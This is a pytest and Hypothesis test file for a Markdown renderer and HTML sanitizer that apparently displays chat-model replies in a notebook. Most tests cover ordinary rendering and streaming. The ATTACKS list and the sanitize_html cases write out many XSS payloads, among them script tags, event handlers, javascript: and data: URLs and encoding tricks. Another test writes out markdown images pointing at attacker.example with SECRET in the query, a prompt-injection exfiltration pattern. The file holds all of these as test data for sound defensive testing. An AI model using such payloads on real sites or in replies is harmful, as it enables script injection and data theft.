"""Markdown rendering, sanitizing and stream splitting (tf_magics.render)."""

from __future__ import annotations

import re
import subprocess
import sys
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.paths import REPO_ROOT
from tf_magics.render import StreamingMarkdown, escape, render_markdown, sanitize_html
from tf_magics.render.lines import Line, LineMachine

# --- helpers ------------------------------------------------------------------------------------


class _Elements(HTMLParser):
    """Collect (tag, attrs) of every element; attribute values arrive entity-decoded."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {k: v or "" for k, v in attrs}))

    handle_startendtag = handle_starttag


def elements(html: str) -> list[tuple[str, dict[str, str]]]:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser.elements


FORBIDDEN_TAGS = {
    "script", "style", "iframe", "frame", "frameset", "form", "input", "button", "select",
    "textarea", "object", "embed", "svg", "math", "meta", "base", "link", "applet", "audio",
    "video", "source", "template", "noscript",
}  # fmt: skip
_TAB_OR_NEWLINE = re.compile(r"[\t\n\r]")


def assert_inert(html: str) -> None:
    """No script can run from ``html``: checked on the parsed elements, not on the text."""
    assert "<script" not in html.lower()
    for tag, attrs in elements(html):
        assert tag not in FORBIDDEN_TAGS, (tag, html)
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name, html)
            if name in ("href", "src", "action", "formaction", "xlink:href"):
                # What a browser's URL parser does before it reads the scheme.
                url = _TAB_OR_NEWLINE.sub("", value.strip("".join(map(chr, range(33))))).lower()
                assert not url.startswith(("javascript:", "vbscript:", "data:text")), (tag, value)
                if url.startswith("data:"):
                    assert tag == "img" and url.startswith("data:image/"), (tag, value)
            if name == "style":
                assert "expression" not in value.lower() and "url(" not in value.lower(), value


def squash(html: str) -> str:
    """HTML with whitespace runs collapsed and none next to tags, for comparing renderings."""
    return re.sub(r" ?(<[^>]*>) ?", r"\1", re.sub(r"\s+", " ", html)).strip()


def tags(html: str) -> list[str]:
    return [tag for tag, _ in elements(html)]


# --- markdown -----------------------------------------------------------------------------------


def test_empty_text_renders_nothing() -> None:
    assert render_markdown("") == ""
    assert render_markdown(" \n\n ") == ""


def test_headings_emphasis_and_rules() -> None:
    html = render_markdown("# Title\n\n## Sub\n\n**bold** *it* ~~gone~~\n\n---\n")
    assert "<h1>Title</h1>" in html
    assert "<h2>Sub</h2>" in html
    assert "<strong>bold</strong> <em>it</em> <del>gone</del>" in html
    assert "<hr>" in html


def test_single_newlines_are_line_breaks() -> None:
    assert "one<br>\ntwo" in render_markdown("one\ntwo")


def test_list_directly_under_a_paragraph() -> None:
    html = render_markdown("Here are items:\n- a\n- b\n")
    assert squash(html) == "<p>Here are items:</p><ul><li>a</li><li>b</li></ul>"
    html = render_markdown("Steps:\n1. one\n2. two\n")
    assert squash(html) == "<p>Steps:</p><ol><li>one</li><li>two</li></ol>"


def test_a_number_that_cannot_start_a_list_stays_in_the_paragraph() -> None:
    assert "<ol" not in render_markdown("It happened in\n1999. Then more.")


@pytest.mark.parametrize("indent", [2, 3, 4])
def test_nested_lists_with_any_indentation(indent: int) -> None:
    pad = " " * indent
    html = render_markdown(f"- a\n{pad}- b\n{pad}- c\n- d\n")
    assert squash(html) == "<ul><li>a<ul><li>b</li><li>c</li></ul></li><li>d</li></ul>"


def test_numbered_items_with_continuation_paragraphs_stay_one_list() -> None:
    html = render_markdown("1. **Step**\n   text\n\n   more\n2. next\n\n3. last\n")
    assert tags(html).count("ol") == 1
    assert tags(html).count("li") == 3
    assert "<p>more</p>" in html


def test_numbering_resumes_after_an_interruption() -> None:
    html = render_markdown("1. one\n\nA paragraph.\n\n2. two\n")
    assert '<ol start="2">' in html


def test_table_with_alignment() -> None:
    html = render_markdown("Table:\n| a | b |\n|:--|--:|\n| 1 | 2<br>3 |\n")
    assert "<p>Table:</p>" in html
    assert '<th align="left">a</th>' in html
    assert '<td align="right">2<br>3</td>' in html


def test_fenced_code_is_highlighted_with_theme_colours() -> None:
    html = render_markdown("```python\ndef f(x):\n    return x  # done\n```\n")
    assert html.startswith('<div class="highlight"><pre style=')
    assert "<span style=" in html
    assert "var(--jp-mirror-editor-keyword-color" in html  # follows JupyterLab's theme
    assert "var(--jp-mirror-editor-comment-color" in html
    assert ">def</span>" in html


def test_code_in_an_unknown_language_is_plain_and_escaped() -> None:
    html = render_markdown("```nosuchlanguage\na < b && $x$\n```\n")
    assert "<span" not in html
    assert "a &lt; b &amp;&amp; $x$\n</pre>" in html


def test_unclosed_fence_runs_to_the_end() -> None:
    html = render_markdown("Look:\n```python\nx = 1\n\ny = 2\n")
    assert tags(html).count("pre") == 1
    assert "y" in html.split("<pre")[1]


def test_fence_inside_a_list_item() -> None:
    html = render_markdown("1. Install:\n   ```bash\n   pip install x\n   ```\n2. Run it\n")
    assert tags(html).count("ol") == 1
    assert tags(html).count("li") == 2
    assert ">pip install x\n</pre>" in html


def test_fence_needs_a_closing_fence_at_least_as_long() -> None:
    html = render_markdown("````\n```\ninner\n```\n````\nafter\n")
    assert tags(html).count("pre") == 1
    assert "```\ninner\n```" in html
    assert "<p>after</p>" in html


def test_inline_code_keeps_markup_and_dollars() -> None:
    html = render_markdown("Use `$HOME` and `a<b>` and ``x ` y``")
    assert "<code>$HOME</code>" in html
    assert "<code>a&lt;b&gt;</code>" in html
    assert "<code>x ` y</code>" in html


def test_hashtag_at_line_start_is_not_a_heading() -> None:
    assert render_markdown("#python is fun") == "<p>#python is fun</p>"
    assert render_markdown("# python").startswith("<h1>")


@pytest.mark.parametrize(
    "text",
    [
        "1. " * 3000,  # one nested list per marker: Python-Markdown would recurse too deep
        "".join(" " * (2 * i) + "- x\n" for i in range(400)),
        ">" * 3000 + " x",
        "[" * 5000,
        "![" * 3000,
        "<" * 5000,
        "$5 " * 5000,
        "`a ``b " * 3000,
        "\\begin{x} " * 3000,
        "\\( " * 5000,
    ],
)
def test_degenerate_replies_render(text: str) -> None:
    """Looping models repeat a token thousands of times: rendering must neither crash nor hang."""
    assert_inert(render_markdown(text))


def test_lists_nest_at_most_twelve_deep() -> None:
    html = render_markdown("".join(" " * (2 * i) + "- x\n" for i in range(40)))
    assert tags(html).count("ul") == 12


def test_items_nest_under_wide_markers() -> None:
    html = render_markdown("100. item\n     - nested\n101. next\n")
    assert squash(html) == (
        '<ol start="100"><li>item<ul><li>nested</li></ul></li><li>next</li></ol>'
    )


def test_a_list_marker_ends_a_table_or_a_quote() -> None:
    html = render_markdown("| a |\n|---|\n| 1 |\n3. three\n")
    assert "<table>" in html and '<ol start="3">' in html
    html = render_markdown("> quoted\n3. three\n")
    assert squash(html) == '<blockquote><p>quoted</p></blockquote><ol start="3"><li>three</li></ol>'


def test_placeholders_cannot_be_forged_by_a_reply() -> None:
    text = "tfblock0123456789abx0y and tfstash0123456789abx0y\n\n```python\nx = 1\n```\n"
    html = render_markdown(text)
    assert "tfblock0123456789abx0y and tfstash0123456789abx0y" in html
    assert html.count('<div class="highlight">') == 1


def test_block_quotes() -> None:
    html = render_markdown("> a\n> b\n>\n> c\n\n> d\n")
    # A blank line ends a quote (CommonMark, and GitHub's rendering of the saved markdown).
    assert squash(html) == (
        "<blockquote><p>a<br>b</p><p>c</p></blockquote><blockquote><p>d</p></blockquote>"
    )


# --- math ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "math",
    [
        "$a_b * c_d$",
        "$$\\sum_i x_i$$",
        "\\(\\alpha\\)",
        "\\[x_1 * y_2\\]",
        "$\\{a\\}_{i}^{*}$",
        "\\begin{align}a_1 &amp;= b_2 \\\\ c_3 &amp;= d_4\\end{align}",
    ],
)
def test_math_reaches_mathjax_verbatim(math: str) -> None:
    source = math.replace("&amp;", "&")
    html = render_markdown(f"Before {source} after *em*.")
    assert f"Before {math} after <em>em</em>." in html


def test_display_math_over_several_lines() -> None:
    source = "$$\nE = mc^2 \\\\\na_1 * b_2 < c\n$$"
    assert "$$\nE = mc^2 \\\\\na_1 * b_2 &lt; c\n$$" in render_markdown(source)


def test_dollars_that_are_not_math_cannot_pair_up_in_mathjax() -> None:
    html = render_markdown("It costs $5 and $10, or \\$3.")
    assert html == "<p>It costs <span>$</span>5 and <span>$</span>10, or <span>$</span>3.</p>"


def test_math_in_code_is_code() -> None:
    html = render_markdown("`$a_b$`\n\n```\n$x_1$\n```")
    assert "<code>$a_b$</code>" in html
    assert "$x_1$" in html and "<span>$" not in html


def test_partial_closes_open_display_math() -> None:
    tail = "Then:\n\n$$\n\\frac{a_1}{b_2} * c_3"
    assert "$$\n\\frac{a_1}{b_2} * c_3$$" in render_markdown(tail, partial=True)
    assert "<em>" not in render_markdown(tail, partial=True)


# --- raw html and links -------------------------------------------------------------------------


def test_raw_html_is_text_except_harmless_tags() -> None:
    html = render_markdown("H<sub>2</sub>O, x<sup>2</sup>, <kbd>Ctrl</kbd><br>Vec<T> <div>d</div>")
    assert "H<sub>2</sub>O, x<sup>2</sup>, <kbd>Ctrl</kbd><br>" in html
    assert "Vec&lt;T&gt; &lt;div&gt;d&lt;/div&gt;" in html


def test_script_in_prose_is_shown_as_text() -> None:
    html = render_markdown("Try <script>alert(1)</script> here")
    assert html == "<p>Try &lt;script&gt;alert(1)&lt;/script&gt; here</p>"


def test_details_block_with_markdown_inside() -> None:
    html = render_markdown("<details>\n<summary>More</summary>\n\n*hidden*\n\n</details>\n")
    assert squash(html) == "<details><summary>More</summary><p><em>hidden</em></p></details>"


def test_links_open_in_a_new_tab_without_opener() -> None:
    html = render_markdown("[site](https://example.com) <https://a.example/x>")
    assert (
        '<a href="https://example.com" target="_blank" rel="noopener noreferrer nofollow">' in html
    )
    assert '<a href="https://a.example/x"' in html


def test_images_when_remote_images_are_allowed() -> None:
    html = render_markdown(
        "![cat](https://example.com/cat.png) ![dot](data:image/png;base64,AAAA)",
        remote_images=True,
    )
    assert [attrs for tag, attrs in elements(html) if tag == "img"] == [
        {"alt": "cat", "src": "https://example.com/cat.png"},
        {"alt": "dot", "src": "data:image/png;base64,AAAA"},
    ]


@pytest.mark.parametrize(
    "source",
    [
        "![x](https://attacker.example/pixel.png?q=SECRET)",
        "![x](http://attacker.example/?q=SECRET 'title')",
        "![](//attacker.example/?q=SECRET)",
        "![x](relative/path.png?q=SECRET)",
        "[![x](https://attacker.example/?q=SECRET)](https://example.com)",
        "- item ![x](https://attacker.example/?q=SECRET)",
        "| a |\n|---|\n| ![x](https://attacker.example/?q=SECRET) |",
    ],
)
def test_by_default_no_image_is_loaded_from_an_address(source: str) -> None:
    # A prompt-injected reply must not make the notebook fetch an address with data in it.
    html = render_markdown(source)
    images = [attrs for tag, attrs in elements(html) if tag == "img"]
    assert all(attrs.get("src", "").startswith("data:") for attrs in images)
    assert "SECRET" in html  # still there, as a link to click


def test_a_remote_image_becomes_a_link_and_a_data_image_stays() -> None:
    html = render_markdown("![cat](https://example.com/cat.png) ![dot](data:image/png;base64,AA)")
    found = elements(html)
    assert ("a", {"href": "https://example.com/cat.png", "target": "_blank",
                  "rel": "noopener noreferrer nofollow"}) in found  # fmt: skip
    assert [attrs for tag, attrs in found if tag == "img"] == [
        {"alt": "dot", "src": "data:image/png;base64,AA"}
    ]
    assert "[image: cat]" in html


def test_the_sanitizer_drops_remote_image_sources_unless_allowed() -> None:
    raw = '<img src="https://attacker.example/x.png" alt="x">'
    assert "attacker" not in sanitize_html(raw)
    assert "attacker" in sanitize_html(raw, remote_images=True)


def test_conversions_do_not_share_state() -> None:
    render_markdown("[ref]: https://example.com\n")
    assert "<a" not in render_markdown("[x][ref]")


# --- sanitizing ---------------------------------------------------------------------------------

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnError=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](jav&#x61;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "![x](javascript:alert(1))",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x61;script:alert(1)">x</a>',
    "<iframe src=https://evil.example></iframe>",
    "<form action=https://evil.example><input name=q><button>go</button></form>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<object data=x.swf></object><embed src=x.swf>",
    "<style>body { background: expression(alert(1)) }</style>",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](vbscript:msgbox(1))",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><base href=x><link rel=x>',
    "<details open ontoggle=alert(1)><summary>s</summary></details>",
    "<b onmouseover=alert(1)>x</b><br onclick=alert(1)>",
    "`<script>` and <scr<script>ipt>alert(1)</script>",
    '$x" onmouseover="alert(1)$ [a](http://x/$" onerror="alert(1)$)',
    "```\n</code></pre><script>alert(1)</script>\n```",
    "<!--<script>alert(1)</script>-->",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_in_a_reply_render_inert(attack: str) -> None:
    assert_inert(render_markdown(attack))
    assert_inert(render_markdown(f"Some text\n\n- item {attack}\n\n> {attack}\n"))
    assert_inert(render_markdown(attack, partial=True))


@pytest.mark.parametrize(
    "attack",
    [
        '<img src=x onerror="alert(1)">',
        '<a href="javascript:alert(1)">x</a>',
        '<a href=" &#14; javascript:alert(1)">x</a>',
        '<a href="jav&#x09;ascript:alert(1)">x</a>',
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        '<a href="&#1;data:text/html,<script>alert(1)</script>">x</a>',
        '<a href="\x01 da\tta:text/html,<script>alert(1)</script>">x</a>',
        '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
        '<span style="color: expression(alert(1)); background: url(javascript:alert(1))">x</span>',
        '<pre style="background-image: url(https://evil.example/t.png)">x</pre>',
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<form><input autofocus onfocus=alert(1)></form>",
        "<svg><animate onbegin=alert(1) attributeName=x></svg>",
        "<object data=javascript:alert(1)></object>",
        "<table background=javascript:alert(1)><td>x</td></table>",
        "<div class=jp-Dialog style='position:fixed'>x</div>",
    ],
)
def test_sanitize_html_removes_script_vectors(attack: str) -> None:
    cleaned = sanitize_html(attack)
    assert_inert(cleaned)
    assert "position" not in cleaned and "jp-Dialog" not in cleaned


def test_sanitize_html_keeps_what_rendering_produces() -> None:
    html = (
        '<div class="highlight"><pre style="background:var(--x, #fff)"><code>'
        '<span style="color:var(--y, #000);font-weight:bold">k</span></code></pre></div>'
        '<ol start="3"><li><a href="https://e.x" title="t">e</a></li></ol>'
        '<table><tr><th align="center">h</th></tr></table>'
    )
    cleaned = sanitize_html(html)
    assert '<div class="highlight">' in cleaned
    assert 'style="color:var(--y, #000);font-weight:bold"' in cleaned
    assert '<ol start="3">' in cleaned
    assert '<th align="center">' in cleaned
    assert 'title="t"' in cleaned


def test_sanitize_html_drops_other_classes_and_bad_values() -> None:
    cleaned = sanitize_html('<div class="jp-x highlight">a</div><ol start="1;x"><li>b</li></ol>')
    assert cleaned == '<div class="highlight">a</div><ol><li>b</li></ol>'


def test_escape() -> None:
    assert (
        escape("<a href=\"x\">'&'</a>") == "&lt;a href=&quot;x&quot;&gt;&#x27;&amp;&#x27;&lt;/a&gt;"
    )


_NASTY = st.sampled_from(
    [
        "<", ">", "/", '"', "'", "=", "&", "#", ";", ":", "`", "```", "$", "$$", "\\", "*", "_",
        "[", "]", "(", ")", "!", "-", "|", "~", " ", "\n", "\n\n", "    ", "1. ", "- ", "> ",
        "script", "onerror", "onload", "javascript:", "jav&#x61;script:", "data:text/html,",
        "img src=x ", "a href=", "iframe", "svg", "style", "details", "br", "sub", "x", "\t",
        "&#x3c;", "&lt;", "<!--", "-->", "\\(", "\\)", "\\[", "\\]", "{", "}",
    ]
)  # fmt: skip
_NASTY_TEXT = st.one_of(st.lists(_NASTY, max_size=40).map("".join), st.text(max_size=80))


@given(text=_NASTY_TEXT, partial=st.booleans())
@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_no_text_renders_to_script(text: str, partial: bool) -> None:
    assert_inert(render_markdown(text, partial=partial))


# --- streaming ----------------------------------------------------------------------------------


def stream(text: str, cuts: list[int]) -> tuple[list[str], StreamingMarkdown]:
    sm = StreamingMarkdown()
    blocks: list[str] = []
    start = 0
    for cut in [*sorted(cuts), len(text)]:
        blocks += sm.feed(text[start:cut])
        start = max(start, cut)
    return blocks, sm


def test_stream_blocks_complete_at_the_next_block() -> None:
    sm = StreamingMarkdown()
    assert sm.feed("# Title\n\nFirst para") == []
    assert sm.feed("graph.\n\n") == ["# Title\n\n"]
    assert sm.tail == "First paragraph.\n\n"
    assert sm.feed("Sec") == []  # the next line is not complete yet
    assert sm.feed("ond.\n") == ["First paragraph.\n\n"]
    assert sm.tail == "Second.\n"
    assert sm.text == "# Title\n\nFirst paragraph.\n\nSecond.\n"
    assert sm.finish() == ["Second.\n"]
    assert sm.blocks == ("# Title\n\n", "First paragraph.\n\n", "Second.\n")
    assert sm.tail == ""
    with pytest.raises(ValueError, match="after finish"):
        sm.feed("more")


def test_stream_keeps_a_fence_open_until_its_closing_fence() -> None:
    sm = StreamingMarkdown()
    assert sm.feed("```python\nx = 1\n\n\ny = 2\n\n") == []
    assert "<pre" in render_markdown(sm.tail, partial=True)  # the open fence renders as code
    assert sm.feed("```\n\nDone.\n") == ["```python\nx = 1\n\n\ny = 2\n\n```\n\n"]


def test_stream_keeps_loose_lists_together() -> None:
    text = "1. one\n\n2. two\n\n   more two\n\n3. three\n\n- a\n\n  - b\n\nAfter.\n"
    blocks, sm = stream(text, [])
    assert blocks == ["1. one\n\n2. two\n\n   more two\n\n3. three\n\n- a\n\n  - b\n\n"]
    assert sm.tail == "After.\n"


def test_stream_keeps_a_details_element_together() -> None:
    text = "<details>\n<summary>s</summary>\n\nbody\n\n</details>\n\nnext\n"
    blocks, _ = stream(text, [])
    assert blocks == ["<details>\n<summary>s</summary>\n\nbody\n\n</details>\n\n"]


def test_stream_tail_closes_open_display_math() -> None:
    sm = StreamingMarkdown()
    sm.feed("Intro.\n\n$$\na_1 * b_2 * c_3")
    assert "$$\na_1 * b_2 * c_3$$" in render_markdown(sm.tail, partial=True)


def test_stream_leading_blank_lines_join_the_first_block() -> None:
    blocks, sm = stream("\n\nA\n\nB\n", [])
    assert blocks == ["\n\nA\n\n"]
    assert sm.tail == "B\n"


# Realistic replies, for the properties below.

_WORDS = st.sampled_from(
    ["alpha", "beta", "`code`", "**bold**", "*it*", "$x_1$", "[link](https://e.x)", "a_b", "<br>",
     "$5", "\\(\\alpha\\)", "x < y", "2 * 3", "~~old~~", "H<sub>2</sub>O", "&amp;", "<T>"]
)  # fmt: skip
_LINE = st.lists(_WORDS, min_size=1, max_size=6).map(" ".join)


@st.composite
def _paragraph(draw: st.DrawFn) -> str:
    return "\n".join(draw(st.lists(_LINE, min_size=1, max_size=3)))


@st.composite
def _list(draw: st.DrawFn) -> str:
    ordered = draw(st.booleans())
    loose = draw(st.booleans())
    indent = draw(st.sampled_from([2, 3, 4]))
    start = draw(st.sampled_from([1, 1, 3]))
    lines: list[str] = []
    for i in range(draw(st.integers(1, 4))):
        marker = f"{start + i}." if ordered else draw(st.sampled_from(["-", "*"]))
        width = len(marker) + 1
        lines.append(f"{marker} {draw(_LINE)}")
        extra = draw(st.sampled_from(["", "", "nested", "para", "code", "lazy"]))
        if extra == "nested":
            lines += [f"{' ' * indent}- {draw(_LINE)}" for _ in range(draw(st.integers(1, 2)))]
        elif extra == "para":
            lines += ["", " " * width + draw(_LINE)]
        elif extra == "code":
            pad = " " * width
            lines += [f"{pad}```python", f"{pad}x = 1", "", f"{pad}y = 2  # $z$", f"{pad}```"]
        elif extra == "lazy":
            lines.append(draw(_LINE))
        if loose:
            lines.append("")
    return "\n".join(lines).rstrip("\n")


_FENCE = st.sampled_from(
    [
        "```python\ndef f(x):\n\n    return x * 2  # $not math$\n```",
        "```\nplain <b>text</b>\n\n\nmore\n```",
        "~~~bash\necho $HOME\n~~~",
        "````markdown\n```\ninner\n```\n````",
    ]
)
_OTHER = st.sampled_from(
    [
        "# Heading",
        "## Sub *heading*",
        "---",
        "| a | b |\n|:--|--:|\n| 1 | $x$ |\n| 2 | `y` |",
        "> quoted\n> more",
        "> one\n\n> two",
        "$$\n\\sum_{i=1}^n x_i * y_i\n$$",
        "\\[\na_1 < b_2\n\\]",
        "    indented code\n\n    more code",
        "<details>\n<summary>Details</summary>\n\ninside *here*\n\n</details>",
    ]
)
_BLOCK = st.one_of(_paragraph(), _paragraph(), _list(), _FENCE, _OTHER)


@st.composite
def replies(draw: st.DrawFn) -> str:
    parts = draw(st.lists(_BLOCK, min_size=1, max_size=7))
    text = parts[0]
    for part in parts[1:]:
        text += draw(st.sampled_from(["\n\n", "\n\n", "\n\n\n", "\n"])) + part
    return text + draw(st.sampled_from(["", "\n", "\n\n"]))


@st.composite
def replies_and_cuts(draw: st.DrawFn) -> tuple[str, list[int]]:
    text = draw(replies())
    cuts = draw(st.lists(st.integers(0, len(text)), max_size=30))
    return text, cuts


@given(replies_and_cuts())
@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_stream_blocks_do_not_depend_on_how_the_text_is_cut(case: tuple[str, list[int]]) -> None:
    text, cuts = case
    blocks, sm = stream(text, cuts)
    whole, whole_sm = stream(text, [])
    assert blocks == whole
    assert "".join(blocks) + sm.tail == text == sm.text
    assert sm.tail == whole_sm.tail
    char_by_char, _ = stream(text, list(range(len(text))))
    assert char_by_char == whole


@given(replies())
@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_rendering_blocks_and_tail_looks_like_rendering_the_whole(text: str) -> None:
    blocks, sm = stream(text, [])
    pieces = [render_markdown(block) for block in blocks] + [render_markdown(sm.tail)]
    assert squash("".join(pieces)) == squash(render_markdown(text))


_LINES = st.sampled_from(
    ["", "", "", "text $a", "b$ more", "- a", "  - b", "    - c", "+ plus", "1. one", "2. two",
     "1) paren", "   2) p2", "   cont", "    code", "      deep", "     five", "\t- tab",
     "\t\tcode",
     "```", "```py", "  ```", "~~~", "````", "> q", ">", "  > nested", "> - ql", "# H", "#hash",
     "---", "***", "- - -", "===", "Title", "| a | b |", "|---|---|", "$$", "x_1 $$", "\\[",
     "\\]", "<details>", "</details>", "<summary>s</summary>", "<br>", "- ```py", "1.", "-", "2. ",
     "10. ten", "- [ ] task", "<!-- c -->"]
)  # fmt: skip


@given(st.lists(_LINES, max_size=14).map("\n".join))
@settings(max_examples=500, deadline=None, derandomize=True, database=None)
def test_rendering_blocks_and_tail_looks_like_rendering_the_whole_for_odd_lines(text: str) -> None:
    blocks, sm = stream(text, [])
    pieces = [render_markdown(block) for block in blocks] + [render_markdown(sm.tail)]
    whole = render_markdown(text)
    assert squash("".join(pieces)) == squash(whole)
    assert_inert(whole)


@given(replies(), st.data())
@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_every_stream_prefix_renders_inert(text: str, data: st.DataObject) -> None:
    cut = data.draw(st.integers(0, len(text)))
    sm = StreamingMarkdown()
    sm.feed(text[:cut])
    assert_inert(render_markdown(sm.tail, partial=True))


def test_feeding_is_linear_each_line_is_classified_once(monkeypatch: pytest.MonkeyPatch) -> None:
    calls = {"step": 0, "continues": 0}
    step, continues = LineMachine.step, LineMachine.continues_after_blank

    def counting_step(self: LineMachine, line: str) -> Line:
        calls["step"] += 1
        return step(self, line)

    def counting_continues(self: LineMachine, line: str) -> bool:
        calls["continues"] += 1
        return continues(self, line)

    monkeypatch.setattr(LineMachine, "step", counting_step)
    monkeypatch.setattr(LineMachine, "continues_after_blank", counting_continues)
    paragraph = "Some *words* with `code` and $x$ in a sentence.\n"
    reply = "".join(
        f"## Part {i}\n\n{paragraph * 3}\n- a\n\n- b\n\n```python\nx = {i}\n\ny = 2\n```\n\n"
        for i in range(300)
    )
    sm = StreamingMarkdown()
    pieces = list(reply)  # one character at a time: ~57k pieces
    assert len(pieces) > 50_000
    blocks = [block for piece in pieces for block in sm.feed(piece)]
    assert "".join(blocks) + sm.tail == reply
    assert calls["step"] == reply.count("\n")
    assert calls["continues"] <= reply.count("\n\n")
    assert len(blocks) > 1000
    assert len(sm.tail) < 200


def test_importing_the_module_loads_no_renderer() -> None:
    code = (
        f"import sys; sys.path.insert(0, {str(REPO_ROOT)!r}); import tf_magics.render; "
        "print(sorted(m for m in ('pyromark', 'pygments', 'nh3') if m in sys.modules))"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "[]"


def test_the_first_renders_may_run_on_several_threads_at_once() -> None:
    # The warm-up thread and the first %%chat both render while pygments is not imported yet.
    code = f"""
import sys, threading
sys.path.insert(0, {str(REPO_ROOT)!r})
from tf_magics.render import render_markdown
barrier, errors = threading.Barrier(6), []
def work():
    barrier.wait()
    try:
        render_markdown("```python\\nx = 1\\n```\\n\\n```js\\nlet y = 2\\n```")
    except Exception as error:
        errors.append(repr(error))
threads = [threading.Thread(target=work) for _ in range(6)]
for t in threads:
    t.start()
for t in threads:
    t.join()
print(errors)
"""
    for _ in range(3):  # without the import lock, every run failed here
        out = subprocess.run(
            [sys.executable, "-c", code], capture_output=True, text=True, check=True
        )
        assert out.stdout.strip() == "[]"
